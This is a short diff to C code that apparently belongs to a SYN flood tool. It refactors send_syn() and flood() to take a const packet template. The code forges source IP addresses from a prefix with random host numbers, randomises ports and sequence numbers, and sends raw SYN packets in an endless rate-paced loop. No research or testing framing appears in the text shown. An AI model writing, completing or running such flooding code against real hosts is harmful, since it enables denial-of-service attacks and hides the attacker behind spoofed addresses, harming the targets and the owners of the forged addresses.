@@ -30,17 +30,18 @@ static uint32_t next_random(void)
 	return state;
 }
 
-static void send_syn(int fd, const char *prefix, struct build *b)
+static void send_syn(int fd, const char *prefix, const struct build *syn)
 {
+	struct build b = *syn;
 	char source[64];
 
 	(void)snprintf(source, sizeof(source),
-		       b->ip.version == 4 ? "%s%u" : "%s%x", prefix,
+		       b.ip.version == 4 ? "%s%u" : "%s%x", prefix,
 		       1 + next_random() % 250);
-	b->ip.src = source;
-	b->sport = (uint16_t)(1024 + next_random() % 60000);
-	b->tcp.seq = next_random();
-	raw_send(fd, b);
+	b.ip.src = source;
+	b.sport = (uint16_t)(1024 + next_random() % 60000);
+	b.tcp.seq = next_random();
+	raw_send(fd, &b);
 }
 
 static struct timespec slice_after(struct timespec time)
@@ -53,15 +54,15 @@ static struct timespec slice_after(struct timespec time)
 	return time;
 }
 
-static void flood(const char *prefix, struct build *b, uint32_t rate)
+static void flood(const char *prefix, const struct build *syn, uint32_t rate)
 {
-	int fd = raw_open(b->ip.version);
+	int fd = raw_open(syn->ip.version);
 	struct timespec next;
 
 	(void)clock_gettime(CLOCK_MONOTONIC, &next);
 	for (;;) {
 		for (uint32_t i = 0; i < rate / SLICES; i++)
-			send_syn(fd, prefix, b);
+			send_syn(fd, prefix, syn);
 		next = slice_after(next);
 		(void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next,
 				      NULL);
